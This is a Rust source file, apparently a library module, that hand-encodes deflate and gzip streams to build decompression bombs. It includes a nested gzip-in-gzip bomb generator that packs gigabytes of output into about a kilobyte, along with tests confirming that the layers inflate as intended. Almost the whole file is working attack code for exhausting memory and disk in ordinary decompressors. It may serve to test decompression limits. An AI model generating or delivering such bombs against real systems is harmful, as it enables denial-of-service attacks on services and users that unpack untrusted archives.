//! Hand-built deflate streams (RFC 1951, fixed Huffman codes) for decompression bombs: gigabytes
//! of output are described in a few megabytes without ever existing in memory or on disk.

use std::io::{self, Write};

/// Longest match deflate can express.
const MAX_MATCH: u64 = 258;

/// Writes bits least-significant first, as deflate packs them.
struct BitWriter<W: Write> {
    out: W,
    acc: u64,
    bits: u32,
    buf: Vec<u8>,
}

impl<W: Write> BitWriter<W> {
    fn new(out: W) -> Self {
        BitWriter {
            out,
            acc: 0,
            bits: 0,
            buf: Vec::with_capacity(64 * 1024),
        }
    }

    fn put(&mut self, value: u32, count: u32) -> io::Result<()> {
        self.acc |= u64::from(value) << self.bits;
        self.bits += count;
        while self.bits >= 8 {
            self.buf.push(self.acc as u8);
            self.acc >>= 8;
            self.bits -= 8;
        }
        if self.buf.len() >= 60 * 1024 {
            self.out.write_all(&self.buf)?;
            self.buf.clear();
        }
        Ok(())
    }

    /// A Huffman code: sent most-significant bit first.
    fn put_code(&mut self, code: u32, len: u32) -> io::Result<()> {
        let reversed = code.reverse_bits() >> (32 - len);
        self.put(reversed, len)
    }

    fn finish(mut self) -> io::Result<W> {
        if self.bits > 0 {
            self.buf.push(self.acc as u8);
        }
        self.out.write_all(&self.buf)?;
        Ok(self.out)
    }
}

fn literal<W: Write>(w: &mut BitWriter<W>, byte: u8) -> io::Result<()> {
    match byte {
        0..=143 => w.put_code(0x30 + u32::from(byte), 8),
        _ => w.put_code(0x190 + u32::from(byte) - 144, 9),
    }
}

/// Length 258 (symbol 285, no extra bits), then the distance code with its extra bits.
fn longest_match<W: Write>(w: &mut BitWriter<W>, distance: u32) -> io::Result<()> {
    const BASES: [u32; 30] = [
        1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025, 1537,
        2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577,
    ];
    w.put_code(0xC5, 8)?;
    let code = BASES.iter().rposition(|b| *b <= distance).unwrap_or(0);
    w.put_code(code as u32, 5)?;
    let extra = if code < 4 { 0 } else { (code as u32 - 2) / 2 };
    if extra > 0 {
        w.put(distance - BASES[code], extra)?;
    }
    Ok(())
}

fn start_block<W: Write>(w: &mut BitWriter<W>) -> io::Result<()> {
    w.put(1, 1)?; // BFINAL
    w.put(1, 2) // BTYPE 01: fixed Huffman codes
}

fn end_block<W: Write>(w: &mut BitWriter<W>) -> io::Result<()> {
    w.put_code(0, 7)
}

/// A raw deflate stream of `pattern` repeated up to `total` bytes (cut mid-pattern if need be).
pub fn deflate_repeat(out: impl Write, pattern: &[u8], total: u64) -> io::Result<()> {
    assert!(!pattern.is_empty() && pattern.len() <= 32 * 1024);
    let period = pattern.len() as u64;
    let mut w = BitWriter::new(out);
    start_block(&mut w)?;
    let head = total.min(period);
    for byte in &pattern[..head as usize] {
        literal(&mut w, *byte)?;
    }
    let rest = total - head;
    let mut matches = rest / MAX_MATCH;
    // Eight equal matches fill whole bytes, so once one group is written the bit state is the
    // same after every group and the group's bytes can be copied: 10 GiB take a blink.
    if matches >= 16 {
        for _ in 0..8 {
            longest_match(&mut w, period as u32)?;
        }
        w.out.write_all(&w.buf)?;
        w.buf.clear();
        let state = (w.acc, w.bits);
        for _ in 0..8 {
            longest_match(&mut w, period as u32)?;
        }
        assert_eq!(state, (w.acc, w.bits), "eight matches fill whole bytes");
        let group = std::mem::take(&mut w.buf);
        matches -= 16;
        let batch = group.repeat(4096);
        w.out.write_all(&group)?;
        for _ in 0..matches / 8 / 4096 {
            w.out.write_all(&batch)?;
        }
        for _ in 0..matches / 8 % 4096 {
            w.out.write_all(&group)?;
        }
        matches %= 8;
    }
    for _ in 0..matches {
        longest_match(&mut w, period as u32)?;
    }
    let done = head + rest / MAX_MATCH * MAX_MATCH;
    for i in done..total {
        literal(&mut w, pattern[(i % period) as usize])?;
    }
    end_block(&mut w)?;
    w.finish()?;
    Ok(())
}

/// CRC-32 and length of `pattern` repeated up to `total` bytes, without producing them.
pub fn crc_of_repeat(pattern: &[u8], total: u64) -> crc32fast::Hasher {
    let period = pattern.len() as u64;
    let mut power = crc32fast::Hasher::new();
    power.update(pattern);
    let mut result = crc32fast::Hasher::new();
    let mut whole = total / period;
    while whole > 0 {
        if whole & 1 == 1 {
            result.combine(&power);
        }
        let copy = power.clone();
        power.combine(&copy);
        whole >>= 1;
    }
    let mut tail = crc32fast::Hasher::new();
    tail.update(&pattern[..(total % period) as usize]);
    result.combine(&tail);
    result
}

/// A gzip member holding `pattern` repeated up to `total` bytes.
pub fn gzip_repeat(mut out: impl Write, pattern: &[u8], total: u64) -> io::Result<()> {
    out.write_all(&GZIP_HEADER)?;
    deflate_repeat(&mut out, pattern, total)?;
    let crc = crc_of_repeat(pattern, total).finalize();
    out.write_all(&crc.to_le_bytes())?;
    out.write_all(&(total as u32).to_le_bytes())
}

const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// A streaming gzip compressor that only ever looks `distance` bytes back. Output that repeats
/// with that period (as every fixed-Huffman stream of one repeated match does) shrinks ~130-fold,
/// so layers of it make a tiny file out of a huge one, without the cost of a real compressor.
pub struct PeriodicGzip<W: Write> {
    bits: BitWriter<W>,
    distance: usize,
    /// Everything not yet encoded, preceded by the `distance` bytes before it.
    pending: Vec<u8>,
    /// Where the not-yet-encoded bytes start in `pending`.
    start: usize,
    crc: crc32fast::Hasher,
    total: u64,
}

impl<W: Write> PeriodicGzip<W> {
    pub fn new(mut out: W, distance: usize) -> io::Result<Self> {
        out.write_all(&GZIP_HEADER)?;
        let mut bits = BitWriter::new(out);
        start_block(&mut bits)?;
        Ok(PeriodicGzip {
            bits,
            distance,
            pending: Vec::new(),
            start: 0,
            crc: crc32fast::Hasher::new(),
            total: 0,
        })
    }

    /// Encodes what can be encoded while keeping `keep` bytes of look-ahead.
    fn encode(&mut self, keep: usize) -> io::Result<()> {
        let max = MAX_MATCH as usize;
        while self.pending.len() - self.start > keep {
            let at = self.start;
            let can_match = at >= self.distance
                && self.pending.len() - at >= max
                && self.pending[at..at + max]
                    == self.pending[at - self.distance..at - self.distance + max];
            if can_match {
                longest_match(&mut self.bits, self.distance as u32)?;
                self.start += max;
            } else {
                literal(&mut self.bits, self.pending[at])?;
                self.start += 1;
            }
        }
        // Keep only the window still needed.
        let drop = self.start.saturating_sub(self.distance);
        if drop > 1024 * 1024 {
            self.pending.drain(..drop);
            self.start -= drop;
        }
        Ok(())
    }

    pub fn finish(mut self) -> io::Result<W> {
        self.encode(0)?;
        end_block(&mut self.bits)?;
        let mut out = self.bits.finish()?;
        out.write_all(&self.crc.finalize().to_le_bytes())?;
        out.write_all(&(self.total as u32).to_le_bytes())?;
        Ok(out)
    }
}

impl<W: Write> Write for PeriodicGzip<W> {
    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
        self.crc.update(data);
        self.total += data.len() as u64;
        self.pending.extend_from_slice(data);
        self.encode(MAX_MATCH as usize)?;
        Ok(data.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Writes a gzip-in-gzip-in-gzip-in-gzip file whose innermost layer is `pattern` repeated to
/// `total` bytes (10 GiB fit in about a kilobyte).
pub fn nested_gzip_bomb(out: impl Write, pattern: &[u8], total: u64) -> io::Result<()> {
    // A stream of equal matches repeats every `bits per match` bytes (8 matches = whole bytes),
    // so each layer is compressed by looking exactly that far back.
    let d2 = match_bits(pattern.len() as u32);
    let d3 = match_bits(d2);
    let d4 = match_bits(d3);
    let layer4 = PeriodicGzip::new(out, d4 as usize)?;
    let mut layer3 = PeriodicGzip::new(layer4, d3 as usize)?;
    let mut layer2 = PeriodicGzip::new(&mut layer3, d2 as usize)?;
    gzip_repeat(&mut layer2, pattern, total)?;
    layer2.finish()?;
    layer3.finish()?.finish()?;
    Ok(())
}

/// Bits one longest match at `distance` takes.
fn match_bits(distance: u32) -> u32 {
    let mut sink = BitWriter::new(io::sink());
    let _ = longest_match(&mut sink, distance);
    sink.bits + 8 * sink.buf.len() as u32
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    fn inflate_all(data: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        flate2::read::GzDecoder::new(data)
            .read_to_end(&mut out)
            .expect("valid gzip");
        out
    }

    #[test]
    fn repeat_stream_inflates_to_the_pattern() {
        for (pattern, total) in [(&b"x"[..], 1000u64), (b"ab\n", 5000), (b"{\"a\":1}\n", 7)] {
            let mut gz = Vec::new();
            gzip_repeat(&mut gz, pattern, total).unwrap();
            let expected: Vec<u8> = pattern
                .iter()
                .copied()
                .cycle()
                .take(total as usize)
                .collect();
            assert_eq!(inflate_all(&gz), expected);
        }
    }

    #[test]
    fn periodic_compressor_round_trips() {
        let data: Vec<u8> = b"0123456789abcdefXYZ"
            .iter()
            .copied()
            .cycle()
            .take(100_000)
            .collect();
        let mut gz = PeriodicGzip::new(Vec::new(), 19).unwrap();
        gz.write_all(&data[..33]).unwrap();
        gz.write_all(&data[33..]).unwrap();
        let out = gz.finish().unwrap();
        assert!(out.len() < 10_000, "{}", out.len());
        assert_eq!(inflate_all(&out), data);
    }

    #[test]
    fn nested_bomb_is_small_and_layered() {
        let mut bomb = Vec::new();
        nested_gzip_bomb(&mut bomb, b"hello\n", 1 << 24).unwrap();
        let mut layer = bomb.clone();
        for _ in 0..3 {
            layer = inflate_all(&layer);
            assert!(layer.starts_with(&[0x1f, 0x8b]));
        }
        let inner = inflate_all(&layer);
        assert_eq!(inner.len(), 1 << 24);
        assert!(inner.starts_with(b"hello\nhello\n"));
    }
}
